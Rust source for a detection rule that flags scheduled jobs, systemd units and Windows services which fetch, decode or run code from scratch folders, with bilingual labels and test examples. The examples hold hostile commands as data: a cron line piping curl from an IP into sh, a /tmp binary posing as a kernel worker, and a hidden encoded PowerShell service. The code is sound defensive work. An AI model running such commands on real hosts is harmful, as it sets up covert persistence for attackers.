//! A job, service or task set up on a host that fetches, decodes or runs something from a place for scratch.

use abate_model::{Body, Claim, EntityKind, Filter, Finding, Severity, Table, Text};
use serde_json::json;

use super::acts::{Act, Acts, Words};
use super::commands::{decodes, fetches, in_scratch};
use super::known::is_installer;
use crate::examples::{event, file, job};
use crate::{Context, Detection, Example, Tactic};

/// See the module.
pub static DETECTION: Detection = Detection {
    id: "scheduled-persistence",
    title: Text::fixed("Job, service or start-up entry that brings a program back", "プログラムを復活させるジョブ・サービス・自動起動"),
    claims: &[Claim::HostPersistence],
    techniques: &["T1053.003", "T1053.005", "T1543.002", "T1543.003"],
    tactic: Tactic::Persistence,
    severity: Severity::High,
    needs: &[Table::ScheduledJobActivity, Table::FileActivity, Table::EventLogActivity],
    innocent: INNOCENT,
    examples: &[
        Example::hit(
            "cron fetches a script every minute and runs it",
            "cron が毎分スクリプトを取得して実行する",
            || (0..20).map(|n| job(n * 60, "run", "curl -fsSL http://203.0.113.7/i.sh | sh")).collect(),
            &[Claim::HostPersistence],
        ),
        Example::hit(
            "a service runs a file from /tmp",
            "サービスが /tmp のファイルを実行する",
            || vec![job(5, "defined", "/tmp/.X11-unix/kworkerd")],
            &[Claim::HostPersistence],
        ),
        Example::hit(
            "a Windows service that starts a hidden PowerShell",
            "隠しウィンドウの PowerShell を起動する Windows サービス",
            || vec![event(5, "System", "7045", &json!({"ServiceName": "upd", "ImagePath": "powershell -w hidden -enc SQBFAFgA"}))],
            &[Claim::HostPersistence],
        ),
        Example::miss(
            "rotation of logs, a backup, and a package's cron file",
            "ログのローテーション、バックアップ、パッケージの cron ファイル",
            || {
                vec![
                    job(0, "run", "/usr/sbin/logrotate /etc/logrotate.conf"),
                    job(60, "run", "aws s3 sync /srv/data s3://example-backup"),
                    file(70, "created", "/etc/cron.d/certbot", "/usr/bin/dpkg"),
                ]
            },
        ),
    ],
    run,
};

const INNOCENT: Text = Text::fixed(
    "Deployment by cron looks alike; look at what is fetched, and from where.",
    "cron によるデプロイも同様に見える。何をどこから取得しているかを確認する。",
);
static WORDS: Words = Words {
    title: Text::fixed("on {h}, something is set up to run again: {t}", "{h}で繰り返し実行される設定がある: {t}"),
    innocent: INNOCENT,
};

fn run(ctx: &Context<'_>) -> Vec<Finding> {
    let mut acts = Acts::default();
    ctx.evidence.each(&Filter::table(Table::ScheduledJobActivity), &mut |row| {
        let Body::Job(job) = &row.body else { return };
        if job.change != "removed" && brings_back(&job.command) {
            let what = if job.command.is_empty() { job.name.as_deref().unwrap_or_default() } else { &*job.command };
            let act = Act::new(kind_of(job.file.as_deref(), job.schedule.as_deref()), Severity::High, what);
            acts.add(ctx, row, job.host.as_deref(), act.naming(EntityKind::User, job.user.as_deref()));
        }
    });
    // A service that Windows was told to install; ordinary ones lie in the system's or the programs' folders.
    ctx.evidence.each(&Filter::table(Table::EventLogActivity), &mut |row| {
        let Body::Event(event) = &row.body else { return };
        if !matches!(event.code.as_deref(), Some("7045" | "4697")) {
            return;
        }
        let data = super::account::json(event.data.as_deref());
        let text = |key| super::account::texts(&data, key).into_iter().next();
        let Some(image) = text("ImagePath").or_else(|| text("ServiceFileName")) else { return };
        if brings_back(&image) || in_shell(&image) {
            let act = Act::new("win-service", Severity::High, &image).naming(EntityKind::Resource, text("ServiceName").as_deref());
            acts.add(ctx, row, event.host.as_deref(), act);
        }
    });
    acts.findings(Claim::HostPersistence, &|kind| {
        let technique = match kind {
            "task" => "T1053.005",
            "unit" => "T1543.002",
            "win-service" => "T1543.003",
            _ => "T1053.003",
        };
        (technique, &WORDS)
    })
}

fn brings_back(command: &str) -> bool {
    let line = command.to_ascii_lowercase();
    let first = line.trim_start_matches(['"', '-', '@']).split(' ').next().unwrap_or_default();
    in_scratch(first) || (fetches(&line) && !is_installer(&line)) || decodes(&line)
}

/// A service that is only a shell with a command.
fn in_shell(image: &str) -> bool {
    let line = image.to_ascii_lowercase();
    ["%comspec%", "cmd.exe /c", "cmd /c", "powershell", "mshta", "rundll32 javascript"].iter().any(|part| line.contains(part))
}

fn kind_of(file: Option<&str>, schedule: Option<&str>) -> &'static str {
    match file {
        Some(file) if file.contains("systemd") || file.ends_with(".service") || file.ends_with(".timer") => "unit",
        Some(file) if file.contains('\\') => "task",
        _ if schedule.is_some_and(|s| s.contains('\\') || s.contains("Trigger")) => "task",
        _ => "cron",
    }
}
